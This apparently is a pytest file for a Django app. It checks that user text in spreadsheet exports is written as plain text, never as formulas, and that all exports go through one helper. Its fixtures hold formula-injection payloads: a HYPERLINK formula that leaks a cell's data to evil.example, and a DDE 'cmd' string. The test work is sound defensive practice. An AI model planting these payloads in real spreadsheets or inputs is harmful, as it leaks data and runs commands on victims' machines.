"""Spreadsheet (formula) injection: user text in any export is written as text, never as a formula."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from huifu.core import spreadsheets
from huifu.core.testing.auth import login
from huifu.core.testing.factories import ContactFactory

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
RISKY = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


ROOT_DIR = Path(__file__).resolve().parents[2]


def _formulas(content: bytes) -> list[str]:
    """Every formula element in every sheet of the workbook."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(rb"<f[ >][^<]*", archive.read(n))]


def _cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("write_only", [False, True])
def test_helper_writes_risky_text_as_text_and_keeps_the_value(write_only):
    book = spreadsheets.workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    spreadsheets.append(sheet, [*RISKY, 42, "plain"])
    if not write_only:
        sheet["A2"] = EVIL  # set directly, bypassing append(): still neutralised on save
    content = spreadsheets.to_bytes(book)
    assert _formulas(content) == []
    values = {cell.value: cell for cell in _cells(content)}
    for text in RISKY:
        assert values[text].data_type == "s"
    assert values[42].data_type == "n"
    if not write_only:
        assert values[EVIL].quotePrefix


def test_contacts_export_writes_a_formula_name_as_text(client, dept_staff, org_a):
    ContactFactory(organisation=org_a, name=EVIL, title="@SUM(1+1)")
    login(client, dept_staff)
    content = client.get(reverse("directory:contacts_export")).content
    assert _formulas(content) == []
    cells = [c for c in _cells(content) if c.value in (EVIL, "@SUM(1+1)")]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)


def test_servicedesk_report_writes_a_formula_label_as_text():
    from huifu.servicedesk.reports import report_workbook

    row = {"label": EVIL, "received": 1, "answered": 1, "on_time": 1}
    data = {
        "totals": {"received": 1, "answered": 1, "on_time": 1},
        "by_department": [row],
        "by_topic": [dict(row, label="-1+1")],
        "by_channel": [],
    }
    content = report_workbook(data, None, None)
    assert _formulas(content) == []
    assert {c.value for c in _cells(content) if c.data_type == "s"} >= {EVIL, "-1+1"}


def test_no_module_builds_a_workbook_outside_the_helper():
    """Every export goes through huifu.core.spreadsheets, so the rule above covers all of them."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "spreadsheets.py"
        and re.search(r"\bWorkbook\s*\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_every_export_view_returns_the_helpers_download():
    """One way to hand out a workbook: ``spreadsheets.download`` (name, type, no caching)."""
    pattern = re.compile(r"HttpResponse\((?:(?!\n\n).)*?(?:XLSX|spreadsheetml\.sheet)", re.S)
    offenders = [
        str(path.relative_to(ROOT_DIR))
        for path in ROOT_DIR.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "spreadsheets.py"
        and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_download_names_the_file_and_is_not_cached():
    response = spreadsheets.download(b"PK", "报表-2026.xlsx")
    assert response["Content-Type"].endswith("spreadsheetml.sheet")
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%E6%8A%A5%E8%A1%A8-2026.xlsx"
    assert spreadsheets.download(b"PK", "budget-2026.xlsx")["Content-Disposition"] == (
        'attachment; filename="budget-2026.xlsx"'
    )
    assert response["Cache-Control"] == "private, no-store"
